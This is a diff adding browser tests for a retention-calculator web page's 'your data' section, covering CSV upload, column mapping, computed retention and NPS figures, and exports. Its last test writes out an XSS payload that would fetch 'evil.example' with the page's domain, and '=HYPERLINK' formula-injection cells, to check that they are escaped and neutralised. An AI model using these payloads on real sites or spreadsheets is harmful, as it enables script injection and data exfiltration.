@@ -1,0 +1,477 @@
+// SPDX-License-Identifier: MIT
+// Copyright (c) 2026 Retention Calculator contributors
+// "Your data" in real Chromium: files dropped on #drop-zone (DataTransfer), picked by paste or from
+// the sample, read in the data worker. Every number on screen is checked against rc.analyze called
+// here in Node on the same bytes with the same options, formatted by the page's own formatters, so
+// the page, the worker and the core have to agree; nothing expected is written by hand.
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+
+import { FORBIDDEN, eventually, foreignRequests, openPage, useBrowser } from './harness.mjs';
+import { createRetention } from '../../dist/retention.mjs';
+import { makeFormat } from '../../web/format.js';
+import { MESSAGES } from '../../web/i18n.js';
+import { safeRejectedCsv, parseCsv } from '../../web/csv.js';
+import { sampleOrdersCsv } from '../../web/sample.js';
+
+const OUTPUT = new URL('./output/', import.meta.url);
+const FIXTURES = new URL('./fixtures/data/', import.meta.url);
+
+const env = useBrowser();
+const rcPromise = createRetention();
+
+const fixture = (name) => readFile(new URL(name, FIXTURES));
+
+/** Opens the page at #data, runs `body`, then checks requests, console and on-screen text. */
+async function withPage(lang, body, options = {}) {
+  const opened = await openPage(env.browser, `${env.server.url}?lang=${lang}#data`, {
+    locale: lang === 'zh-CN' ? 'zh-CN' : 'en-US',
+    ...options,
+  });
+  const dialogs = [];
+  opened.page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    d.dismiss().catch(() => {});
+  });
+  try {
+    await body(opened.page, opened);
+    const text = await opened.page.evaluate(() => document.getElementById('data').innerText);
+    assert.doesNotMatch(text, FORBIDDEN, 'nothing in the data section reads NaN, Infinity, undefined or null');
+  } finally {
+    await opened.context.close();
+  }
+  assert.deepEqual(dialogs, [], 'no dialog opened');
+  assert.deepEqual(foreignRequests(opened.requests, env.origin), [], 'no request leaves the server');
+  assert.deepEqual(opened.problems, [], 'no console error and no page error');
+}
+
+/** Drops `bytes` as a file on the drop zone, the way a browser delivers a drag from the desktop. */
+async function dropFile(page, name, bytes, type = 'text/csv') {
+  const dataTransfer = await page.evaluateHandle(
+    ({ name, b64, type }) => {
+      const raw = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
+      const dt = new DataTransfer();
+      dt.items.add(new File([raw], name, { type }));
+      return dt;
+    },
+    { name, b64: Buffer.from(bytes).toString('base64'), type },
+  );
+  for (const type of ['dragenter', 'dragover', 'drop']) {
+    await page.dispatchEvent('#drop-zone', type, { dataTransfer });
+  }
+}
+
+/** The AnalyzeOptions the mapping step sends for what detection found (plus overrides). */
+function optionsFrom(inspection, overrides = {}) {
+  const columns = {};
+  inspection.columns.forEach((c, i) => {
+    if (c.role !== 'ignore') columns[c.role] = i;
+  });
+  const options = {
+    kind: inspection.kind,
+    columns,
+    header: inspection.dialect.header,
+    delimiter: inspection.dialect.delimiter,
+    decimal: inspection.dialect.decimal,
+    period: 'month',
+    maxRejections: 100,
+  };
+  if (inspection.dialect.dateOrder) options.dateOrder = inspection.dialect.dateOrder;
+  if (inspection.kind === 'orders') options.activityWindow = 1;
+  return { ...options, ...overrides };
+}
+
+const mapping = (page) => page.locator('#data-map');
+
+/** Waits for the mapping step and returns the role chosen for each column, in order. */
+async function rolesOnScreen(page) {
+  await mapping(page).waitFor({ state: 'visible' });
+  return page.locator('#data-columns-body select').evaluateAll((selects) => selects.map((s) => s.value));
+}
+
+async function analyse(page) {
+  await page.click('#data-analyse');
+  await page.locator('#data-results').waitFor({ state: 'visible' });
+  await eventually(async () => assert.equal(await page.getAttribute('#data-results', 'aria-busy'), 'false'));
+}
+
+/** The cells of one column of a result table, found by its header text. */
+async function column(page, tableId, header) {
+  return page.locator(`#${tableId}`).evaluate((table, header) => {
+    const heads = [...table.querySelectorAll('thead th')].map((th) => th.textContent);
+    const i = heads.indexOf(header);
+    if (i < 0) throw new Error(`no column ${header} in ${heads.join(' | ')}`);
+    return [...table.querySelectorAll('tbody tr')].map((tr) => tr.children[i].textContent);
+  }, header);
+}
+
+/** The totals line the user reads, in the page's words. */
+function totalsText(lang, fmt, a) {
+  return MESSAGES[lang]['data.totals']
+    .replace('{read}', fmt.count(a.rows.read))
+    .replace('{used}', fmt.count(a.rows.used))
+    .replace('{rejected}', fmt.count(a.rows.rejected));
+}
+
+/** Checks the totals and the CRR series of the period table against the Node analysis. */
+async function expectPeriods(page, lang, fmt, a) {
+  const m = MESSAGES[lang];
+  assert.equal(await page.locator('#data-totals').textContent(), totalsText(lang, fmt, a));
+  assert.equal(a.rows.read, a.rows.used + a.rows.rejected);
+  assert.ok(a.periods.length > 1, 'the file spans several periods');
+  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.period']), a.periods.map((p) => p.label));
+  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.S']), a.periods.map((p) => fmt.count(p.customersStart)));
+  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.N']), a.periods.map((p) => fmt.count(p.acquired)));
+  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.E']), a.periods.map((p) => fmt.count(p.customersEnd)));
+  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.crr']), a.periods.map((p) => fmt.pct(p.crr)));
+  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.churn']), a.periods.map((p) => fmt.pct(p.churn)));
+  // The chart exists and has as many points as there are periods.
+  const points = await page.locator('#data-chart-crr').evaluate((host) => host.querySelectorAll('canvas').length);
+  assert.equal(points, 1, 'the CRR chart is drawn');
+}
+
+/** Checks the rejected-rows table against the Node analysis, reasons in the page's language. */
+async function expectRejections(page, lang, fmt, a) {
+  const m = MESSAGES[lang];
+  assert.ok(a.rows.rejected > 0, 'the fixture has rows to reject');
+  assert.equal(
+    await page.locator('#data-rejected-title').textContent(),
+    m['data.rejected.title'].replace('{n}', fmt.count(a.rows.rejected)),
+  );
+  const shown = a.rejections.slice(0, 20);
+  assert.deepEqual(await column(page, 'data-rejected-table', m['data.rejected.line']), shown.map((r) => fmt.num(r.line)));
+  assert.deepEqual(await column(page, 'data-rejected-table', m['data.rejected.reason']), shown.map((r) => m[`data.reason.${r.reason}`]));
+  assert.deepEqual(await column(page, 'data-rejected-table', m['data.rejected.message']), shown.map((r) => r.message));
+}
+
+/** Clicks a button that downloads a CSV and returns the file's text. */
+async function downloaded(page, selector) {
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
+  const text = await readFile(await download.path(), 'utf8');
+  return { name: download.suggestedFilename(), text };
+}
+
+describe('your data', () => {
+  test('a Shopify-like orders export (line items): mapping, numbers, rejected rows, exports, "use my numbers"', async () => {
+    const rc = await rcPromise;
+    const bytes = await fixture('shopify-orders.csv');
+    const inspection = await rc.inspect(bytes);
+    assert.equal(inspection.kind, 'orders');
+    const analysis = await rc.analyze(bytes, optionsFrom(inspection));
+    const fmt = makeFormat('en', 'USD');
+    await withPage('en', async (page) => {
+      await dropFile(page, 'shopify-orders.csv', bytes);
+      const roles = await rolesOnScreen(page);
+      assert.deepEqual(roles, inspection.columns.map((c) => c.role), 'the roles shown are the ones detected');
+      const names = inspection.columns.map((c) => c.name);
+      assert.equal(roles[names.indexOf('Email')], 'customerId');
+      assert.equal(roles[names.indexOf('Created at')], 'date');
+      assert.equal(await page.locator('#data-kind').inputValue(), 'orders');
+      assert.equal(await page.locator('#data-kind-detected').textContent(), 'Detected: Orders');
+      // The role choices are the ones of orders only (and "not used").
+      const offered = await page.locator('#data-role-0 option').evaluateAll((os) => os.map((o) => o.value));
+      assert.deepEqual(offered, ['ignore', 'customerId', 'date', 'amount', 'quantity', 'orderId']);
+      // Samples and names from the file appear as text.
+      assert.match(await page.locator('#data-columns-body').innerText(), /alice@example\.com|bob@example\.com|grace@example\.com/);
+
+      await analyse(page);
+      await expectPeriods(page, 'en', fmt, analysis);
+      await expectRejections(page, 'en', fmt, analysis);
+      const metric = (key) => page.locator(`#data-customers [data-metric="${key}"] dd`).textContent();
+      const c = analysis.customers;
+      assert.equal(await metric('count'), fmt.count(c.count));
+      assert.equal(await metric('repeatRate'), fmt.pct(c.repeatRate));
+      assert.equal(await metric('averageOrderValue'), fmt.money(c.averageOrderValue));
+      assert.equal(await metric('historicalClv'), fmt.money(c.historicalClv));
+      // Per-customer table: ids and x as the core computed them, in the core's order.
+      const ids = await column(page, 'data-customers-table-table', 'Customer');
+      assert.deepEqual(ids, c.table.id.slice(0, 100));
+      assert.deepEqual(await column(page, 'data-customers-table-table', 'x (repeat purchases)'), [...c.table.frequency].slice(0, 100).map((x) => fmt.num(x, 0)));
+      // The cohort heatmap: one row per cohort, +0 is always 100%.
+      const plus0 = await column(page, 'data-cohorts-table', '+0');
+      assert.deepEqual(plus0, analysis.cohorts.labels.map(() => fmt.pct(1, 0)));
+      await page.getByRole('radio', { name: 'Revenue' }).check();
+      assert.deepEqual(await column(page, 'data-cohorts-table', '+0'), analysis.cohorts.revenue.map((r) => fmt.moneyWhole(r[0])));
+
+      // Rejected rows download: the core's CSV, with formulas neutralised, and a BOM for Excel.
+      const rejected = await downloaded(page, '#data-rejected-download');
+      assert.equal(rejected.name, 'shopify-orders-rejected.csv');
+      assert.equal(rejected.text, `\ufeff${safeRejectedCsv(analysis.rejectedCsv)}`);
+      assert.equal(parseCsv(rejected.text.slice(1)).length - 1, analysis.rows.rejected, 'every rejected row is in the file');
+      // A table export: one line per period, the rates as fractions at full precision.
+      const periods = await downloaded(page, '[data-export="periods"]');
+      const rows = parseCsv(periods.text.slice(1));
+      assert.equal(rows.length, analysis.periods.length + 1);
+      assert.equal(rows[0][0], 'Period');
+      const crrAt = rows[0].indexOf('CRR');
+      assert.deepEqual(rows.slice(1).map((r) => r[crrAt]), analysis.periods.map((p) => (p.crr === null ? '' : String(p.crr))));
+
+      await page.screenshot({ path: new URL('data-orders-1280.png', OUTPUT).pathname, fullPage: false });
+      await page.locator('#data').screenshot({ path: new URL('data-orders-section-1280.png', OUTPUT).pathname });
+
+      // "Use my numbers": S, N and E − R of the period named in the detail land in the CRR calculator,
+      // whose CRR = (E − N) / S then equals the CRR measured here.
+      const detail = await page.locator('[data-use="crr"] + p').textContent();
+      const label = /^Period (\S+):/.exec(detail)?.[1];
+      const p = analysis.periods.find((q) => q.label === label);
+      assert.ok(p && p.customersStart > 0, `the detail names a period with customers at its start: ${detail}`);
+      await page.click('[data-use="crr"]');
+      const box = (name) => page.getByRole('spinbutton', { name, exact: true });
+      assert.equal(await box('Customers at start').inputValue(), String(p.customersStart));
+      assert.equal(await box('New customers acquired').inputValue(), String(p.acquired));
+      assert.equal(await box('Customers at end').inputValue(), String(p.customersEnd - p.returning));
+      assert.equal(await page.locator('[data-out="crr.rate"]').textContent(), fmt.pct(p.crr));
+      assert.equal(await page.locator('#crr-period').inputValue(), 'month');
+      await eventually(async () => assert.match(page.url(), /crr-start=/), 3000);
+      assert.ok(await page.evaluate(() => document.activeElement?.id === 'crr-start'), 'focus lands on the first filled field');
+    });
+  });
+
+  test('a WooCommerce-like export: semicolons, decimal comma, ambiguous dates asked, a role changed', async () => {
+    const rc = await rcPromise;
+    const bytes = await fixture('woocommerce-orders.csv');
+    const inspection = await rc.inspect(bytes);
+    assert.equal(inspection.dialect.delimiter, ';');
+    assert.equal(inspection.dialect.decimal, ',');
+    assert.equal(inspection.dateOrderAmbiguous, true);
+    const names = inspection.columns.map((c) => c.name);
+    const email = names.indexOf('Billing Email Address');
+    const user = names.indexOf('Customer User');
+    const fmt = makeFormat('en', 'USD');
+    await withPage('en', async (page) => {
+      await dropFile(page, 'woocommerce-orders.csv', bytes);
+      await rolesOnScreen(page);
+      assert.equal(await page.locator('#data-delimiter').inputValue(), ';');
+      assert.equal(await page.locator('#data-decimal').inputValue(), ',');
+      // The date order is asked, prominently, with an example from the file.
+      const box = page.locator('#data-date-order');
+      assert.ok(await box.evaluate((el) => el.classList.contains('is-ambiguous')));
+      assert.match(await page.locator('#data-date-order-note').textContent(), /“Order Date” \(e\.g\. \d\d\/\d\d\/2023\)/);
+      await page.click('#data-analyse');
+      assert.equal(await page.locator('#data-status').textContent(), MESSAGES.en['data.dateOrder.required']);
+      assert.ok(await page.locator('#data-results').isHidden());
+      await page.getByRole('radio', { name: /^Day first/ }).check();
+
+      // The customer is the e-mail rather than the detected column: the other column is freed.
+      const customerNow = (await rolesOnScreen(page)).indexOf('customerId');
+      const target = customerNow === email ? user : email;
+      await page.locator(`#data-role-${target}`).selectOption('customerId');
+      const roles = await rolesOnScreen(page);
+      assert.equal(roles[target], 'customerId');
+      assert.equal(roles.filter((r) => r === 'customerId').length, 1, 'one column per role');
+      assert.equal(await page.locator('input[name="data-date-order"][value="dmy"]').isChecked(), true, 'the choice survives a role change');
+
+      await analyse(page);
+      const columns = {};
+      roles.forEach((r, i) => {
+        if (r !== 'ignore') columns[r] = i;
+      });
+      const analysis = await rc.analyze(bytes, optionsFrom(inspection, { columns, dateOrder: 'dmy' }));
+      assert.equal(analysis.dialect.dateOrder, 'dmy');
+      await expectPeriods(page, 'en', fmt, analysis);
+      await expectRejections(page, 'en', fmt, analysis);
+      assert.equal(
+        await page.locator('#data-customers [data-metric="averageOrderValue"] dd').textContent(),
+        fmt.money(analysis.customers.averageOrderValue),
+      );
+    });
+  });
+
+  test('a Chinese Excel export in GB18030, in Chinese, on a phone', async () => {
+    const rc = await rcPromise;
+    const bytes = await fixture('gb18030-orders.csv');
+    const inspection = await rc.inspect(bytes);
+    assert.equal(inspection.dialect.encoding, 'gb18030');
+    const analysis = await rc.analyze(bytes, optionsFrom(inspection));
+    const fmt = makeFormat('zh-CN', 'CNY');
+    await withPage('zh-CN', async (page) => {
+      await dropFile(page, 'gb18030-orders.csv', bytes);
+      const roles = await rolesOnScreen(page);
+      const names = inspection.columns.map((c) => c.name);
+      assert.ok(names.includes('客户ID') && names.includes('订单日期') && names.includes('金额'), names.join());
+      assert.equal(roles[names.indexOf('客户ID')], 'customerId');
+      assert.equal(roles[names.indexOf('订单日期')], 'date');
+      assert.equal(roles[names.indexOf('金额')], 'amount');
+      assert.match(await page.locator('#data-encoding').textContent(), /^GB18030/);
+      assert.match(await page.locator('#data-columns-body').innerText(), /张三|李四|王五/);
+      await analyse(page);
+      await expectPeriods(page, 'zh-CN', fmt, analysis);
+      await expectRejections(page, 'zh-CN', fmt, analysis);
+      assert.equal(await page.locator('#data-customers [data-metric="averageOrderValue"] dd').textContent(), fmt.money(analysis.customers.averageOrderValue));
+      // Nothing is wider than the phone's screen but the tables, which scroll inside their box.
+      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+      assert.ok(overflow <= 0, `the page does not scroll sideways (${overflow}px)`);
+      await page.locator('#data').screenshot({ path: new URL('data-gb18030-zh-360.png', OUTPUT).pathname });
+    }, { viewport: { width: 360, height: 780 } });
+  });
+
+  test('a survey export: NPS with its margin, the trend with its band, periods and segments, sent to the NPS calculator', async () => {
+    const rc = await rcPromise;
+    const bytes = await fixture('survey.csv');
+    const inspection = await rc.inspect(bytes);
+    assert.equal(inspection.kind, 'survey');
+    const analysis = await rc.analyze(bytes, optionsFrom(inspection));
+    const fmt = makeFormat('en', 'USD');
+    const o = analysis.nps.overall;
+    await withPage('en', async (page) => {
+      await dropFile(page, 'survey.csv', bytes);
+      await rolesOnScreen(page);
+      assert.equal(await page.locator('#data-kind').inputValue(), 'survey');
+      await analyse(page);
+      assert.equal(await page.locator('#data-totals').textContent(), totalsText('en', fmt, analysis));
+      assert.equal(await page.locator('#data-nps [data-metric="nps"] dd').textContent(), fmt.points(o.score));
+      assert.equal(
+        await page.locator('#data-nps [data-metric="moe"] dd').textContent(),
+        MESSAGES.en['nps.moeValue'].replace('{moe}', fmt.points(o.marginOfError)),
+      );
+      await expectRejections(page, 'en', fmt, analysis);
+      const byPeriod = analysis.nps.byPeriod;
+      assert.ok(byPeriod.length >= 2);
+      assert.deepEqual(await column(page, 'data-nps-periods-table', 'NPS'), byPeriod.map((p) => fmt.points(p.score)));
+      assert.deepEqual(
+        await column(page, 'data-nps-periods-table', 'Significant change?'),
+        byPeriod.map((p) => (p.change ? (p.change.significant ? 'Yes' : 'No') : '—')),
+      );
+      assert.deepEqual(await column(page, 'data-nps-segments-table', 'Segment'), analysis.nps.bySegment.map((s) => s.segment));
+      assert.deepEqual(await column(page, 'data-nps-segments-table', 'NPS'), analysis.nps.bySegment.map((s) => fmt.points(s.score)));
+      // The trend chart has its interval band: uPlot draws the band between the two edge series.
+      const chart = await page.locator('#data-chart-nps').evaluate((host) => ({
+        canvas: host.querySelectorAll('canvas').length,
+        legend: [...host.querySelectorAll('.u-legend .u-label')].map((n) => n.textContent),
+      }));
+      assert.equal(chart.canvas, 1);
+      assert.deepEqual(chart.legend.slice(1), ['NPS', '95% interval, high', '95% interval, low']);
+
+      await page.click('[data-use="nps"]');
+      const box = (name) => page.getByRole('spinbutton', { name, exact: true });
+      assert.equal(await box('Promoters (9–10)').inputValue(), String(o.promoters));
+      assert.equal(await box('Detractors (0–6)').inputValue(), String(o.detractors));
+      assert.equal(await page.locator('[data-out="nps.score"]').textContent(), fmt.points(o.score));
+    });
+  });
+
+  test('a subscriptions export and a period-counts file: CRR series, survival cohorts, rejected rows', async () => {
+    const rc = await rcPromise;
+    const fmt = makeFormat('en', 'USD');
+    await withPage('en', async (page) => {
+      const subs = await fixture('subscriptions.csv');
+      const si = await rc.inspect(subs);
+      assert.equal(si.kind, 'subscriptions');
+      const sa = await rc.analyze(subs, optionsFrom(si));
+      await dropFile(page, 'subscriptions.csv', subs);
+      await rolesOnScreen(page);
+      await analyse(page);
+      await expectPeriods(page, 'en', fmt, sa);
+      await expectRejections(page, 'en', fmt, sa);
+      assert.match(await page.locator('#data-cohorts-title').textContent(), /^Survival by cohort/);
+      assert.deepEqual(await column(page, 'data-cohorts-table', 'Cohort'), sa.cohorts.labels);
+
+      const counts = await fixture('period-counts.csv');
+      const ci = await rc.inspect(counts);
+      assert.equal(ci.kind, 'periodCounts');
+      const ca = await rc.analyze(counts, optionsFrom(ci));
+      await dropFile(page, 'period-counts.csv', counts);
+      assert.ok(await page.locator('#data-results').isHidden(), 'a new file clears the old results');
+      await rolesOnScreen(page);
+      assert.ok(await page.locator('#data-window-field').isHidden(), 'no activity window for counts');
+      await analyse(page);
+      await expectPeriods(page, 'en', fmt, ca);
+      await expectRejections(page, 'en', fmt, ca);
+    });
+  });
+
+  test('the sample data, pasted text, and a cancelled 300,000-row file followed by a new analysis', async () => {
+    const rc = await rcPromise;
+    const fmt = makeFormat('en', 'USD');
+    await withPage('en', async (page) => {
+      // Sample: generated in the worker, analysed at once; the same bytes analysed here agree.
+      await page.click('#data-sample');
+      await page.locator('#data-results').waitFor({ state: 'visible' });
+      const sample = await rc.analyze(sampleOrdersCsv(), { period: 'month' });
+      await expectPeriods(page, 'en', fmt, sample);
+      await expectRejections(page, 'en', fmt, sample);
+      assert.equal(await page.locator('#data-kind').inputValue(), 'orders', 'the mapping step shows what was used');
+      // Sent to the simulator through the documented link keys.
+      await page.click('[data-use="scenario"]');
+      const url = new URL(page.url());
+      for (const key of ['sc-start', 'sc-new', 'sc-crr', 'sc-revenue']) {
+        assert.equal(await page.locator(`#${key}`).inputValue(), url.searchParams.get(key), key);
+      }
+      const start = Number(url.searchParams.get('sc-start'));
+      assert.ok(sample.periods.some((p) => p.customersEnd === start), 'existing customers is a measured E');
+
+      // Paste.
+      const counts = (await fixture('period-counts.csv')).toString('utf8');
+      await page.locator('#data-paste-box summary').click();
+      await page.locator('#data-paste').fill(counts);
+      await page.click('#data-paste-go');
+      await rolesOnScreen(page);
+      assert.equal(await page.locator('#data-map-source').textContent(), 'File: the pasted text');
+      await analyse(page);
+      const ca = await rc.analyze(counts, optionsFrom(await rc.inspect(counts)));
+      await expectPeriods(page, 'en', fmt, ca);
+
+      // A large file generated in the page, cancelled while it is read, then analysed again.
+      const rows = 300_000;
+      const dataTransfer = await page.evaluateHandle((rows) => {
+        const parts = ['customer_id,order_date,amount\n'];
+        for (let i = 0; i < rows; i++) {
+          const m = 1 + (i % 12);
+          const d = 1 + (i % 28);
+          parts.push(`C${(i * 7919) % 40000},2023-${m < 10 ? '0' : ''}${m}-${d < 10 ? '0' : ''}${d},${(10 + (i % 90)).toFixed(2)}\n`);
+        }
+        const dt = new DataTransfer();
+        dt.items.add(new File(parts, 'big.csv', { type: 'text/csv' }));
+        return dt;
+      }, rows);
+      for (const type of ['dragenter', 'dragover', 'drop']) await page.dispatchEvent('#drop-zone', type, { dataTransfer });
+      await rolesOnScreen(page);
+      // Cancel right after starting, as a person pressing Cancel would, only faster: deterministic.
+      await page.evaluate(() => {
+        document.getElementById('data-analyse').click();
+        document.getElementById('data-cancel').click();
+      });
+      await eventually(async () => assert.equal(await page.locator('#data-status').textContent(), MESSAGES.en['data.status.cancelled']));
+      assert.ok(await page.locator('#data-progress').isHidden());
+      assert.ok(await page.locator('#data-results').isHidden(), 'no result from the cancelled run');
+      // The worker is free again: the same file analysed to the end.
+      await analyse(page);
+      assert.equal(
+        await page.locator('#data-totals').textContent(),
+        totalsText('en', fmt, { rows: { read: rows, used: rows, rejected: 0 } }),
+      );
+    });
+  });
+
+  test('markup and formulas in a file are shown as text, run nowhere, and exported neutralised', async () => {
+    const evil = '<img src=x onerror="fetch(\'http://evil.example/\'+document.domain)">';
+    const text = [
+      `customer_id,order_date,amount,"${evil.replaceAll('"', '""')}"`,
+      `"${evil.replaceAll('"', '""')}",2024-01-03,10.00,a`,
+      `"${evil.replaceAll('"', '""')}",2024-02-03,12.00,b`,
+      '"=HYPERLINK(""http://evil.example"",""x"")",2024-01-05,20.00,c',
+      '"=HYPERLINK(""http://evil.example"",""x"")",2024-03-05,-1,d',
+      'plain,2024-02-07,5.00,e',
+      'plain,2024-03-07,5.00,f',
+    ].join('\n');
+    await withPage('en', async (page) => {
+      await dropFile(page, 'evil<b>.csv', Buffer.from(text));
+      await rolesOnScreen(page);
+      assert.match(await page.locator('#data-columns-body').innerText(), /<img src=x onerror=/);
+      assert.match(await page.locator('#data-map-source').textContent(), /evil<b>\.csv/);
+      await analyse(page);
+      assert.equal(await page.locator('#data img').count(), 0, 'no element was made from the file');
+      assert.equal(await page.locator('#data b').count(), 0);
+      const ids = await column(page, 'data-customers-table-table', 'Customer');
+      assert.ok(ids.includes(evil), 'the id is shown as written');
+      const exported = await downloaded(page, '[data-export="customers-table"]');
+      const rows = parseCsv(exported.text.slice(1));
+      const cells = rows.slice(1).map((r) => r[0]);
+      assert.ok(cells.includes(`'=HYPERLINK("http://evil.example","x")`), cells.join(' | '));
+      assert.ok(cells.includes(evil));
+      const rejected = await downloaded(page, '#data-rejected-download');
+      assert.ok(!/(^|,)=HYPERLINK/m.test(rejected.text), 'no cell of the rejected rows starts with a formula');
+    });
+  });
+});
